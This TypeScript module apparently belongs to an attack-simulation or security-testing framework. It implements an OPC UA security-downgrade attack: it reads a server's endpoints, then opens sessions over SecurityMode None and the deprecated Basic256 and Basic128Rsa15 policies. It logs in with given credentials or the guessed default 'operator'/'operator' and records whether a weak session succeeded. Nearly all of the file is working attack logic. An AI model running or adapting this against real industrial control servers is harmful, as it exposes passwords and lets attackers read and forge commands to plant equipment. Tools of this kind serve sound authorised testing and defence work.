/**
 * Security-mode downgrade on OPC UA: whatever the server's endpoints offer, ask for a channel
 * without security (SecurityMode None) and for the deprecated policies (Basic256 signed,
 * Basic128Rsa15), and log in with a user name over it: where the server lets such a channel
 * carry a session, the password and everything after it travel in clear for anyone on the
 * path to read. A server that offers SignAndEncrypt with current policies only refuses the
 * session on the discovery channel and the deprecated channels outright.
 */
import { T } from '../techniques.ts';
import type { Attack, Credentials } from '../types.ts';
import { trail } from './common.ts';

/** the user name tried when the attacker holds no account: the one a tool guesses first */
const GUESS: Credentials = { user: 'operator', password: 'operator' };

const NONE = 'http://opcfoundation.org/UA/SecurityPolicy#None';
/** policies OPC UA deprecated (SHA-1, PKCS#1 v1.5), and the modes a tool asks for with them */
const DEPRECATED: readonly [string, string][] = [
  ['Sign', 'http://opcfoundation.org/UA/SecurityPolicy#Basic256'],
  ['SignAndEncrypt', 'http://opcfoundation.org/UA/SecurityPolicy#Basic128Rsa15'],
];

export const opcuaDowngrade: Attack = {
  id: 'opcua-downgrade',
  title: 'OPC UA security downgrade: a session over SecurityMode None or a deprecated policy, with the password in clear',
  techniques: [T.remoteServices, T.validAccounts],
  face: 'opcua',
  preconditions: ['network reach to the OPC UA port', 'optionally an account (--user, --password); else a guessed user name'],
  steps: [
    'read the endpoints over the discovery channel (what the server offers, its certificate)',
    'open a channel with SecurityMode None and ask for a session as the user name (password in clear), then anonymous',
    'open channels with the deprecated Basic256 (Sign) and Basic128Rsa15 (SignAndEncrypt) policies and ask again',
  ],
  expectedImpact: 'a session over a channel without security (or a broken policy): the password and every value and command after it can be read and forged on the path',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { downgradeChannel, endpointFacts, getEndpoints, reason } = await import('../clients/opcua.ts');
    const { MessageSecurityMode } = await import('node-opcua');
    const evidence: string[] = [];
    const credentials = ctx.credentials ?? GUESS;
    let endpoints;
    try {
      endpoints = await getEndpoints(ctx);
    } catch (e) {
      evidence.push(`OPC UA: ${ctx.target.href} does not answer GetEndpoints: ${reason(e)}`);
      await trail(ctx, evidence, true);
      return { outcome: 'blocked', evidence, impact: { weakSession: null } };
    }
    if (endpoints.length === 0) {
      evidence.push(`OPC UA: ${ctx.target.href} lists no endpoint`);
      await trail(ctx, evidence, true);
      return { outcome: 'blocked', evidence, impact: { weakSession: null } };
    }
    const offered = endpointFacts(endpoints);
    evidence.push(`OPC UA: the server offers ${offered.modes.join(', ')} with ${offered.policies.join(', ')}`);
    const attempts = [
      { mode: MessageSecurityMode.None, policy: NONE },
      ...DEPRECATED.map(([m, policy]) => ({ mode: m === 'Sign' ? MessageSecurityMode.Sign : MessageSecurityMode.SignAndEncrypt, policy })),
    ];
    const channels: Record<string, string> = {};
    let weak: { channel: string; session: string } | null = null;
    for (const a of attempts) {
      const d = await downgradeChannel(ctx, a.mode, a.policy, endpoints[0]!, credentials);
      evidence.push(...d.notes);
      channels[d.channel] = d.session !== null ? `session as ${d.session}` : d.opened ? 'channel opened, session refused' : 'channel refused';
      if (d.session !== null && weak === null) weak = { channel: d.channel, session: d.session };
    }
    await trail(ctx, evidence, weak === null);
    return {
      outcome: weak !== null ? 'succeeded' : 'blocked',
      evidence,
      impact: {
        offeredModes: offered.modes, offeredPolicies: offered.policies, channels,
        weakSession: weak === null ? null : `${weak.session} over ${weak.channel}`,
        // over a None channel nothing is signed or encrypted: a password sent there is readable by anyone on the path
        clearTextChannel: weak !== null && weak.channel.startsWith('None'),
      },
    };
  },
  async cleanup() {
    // nothing on the line changed
  },
};
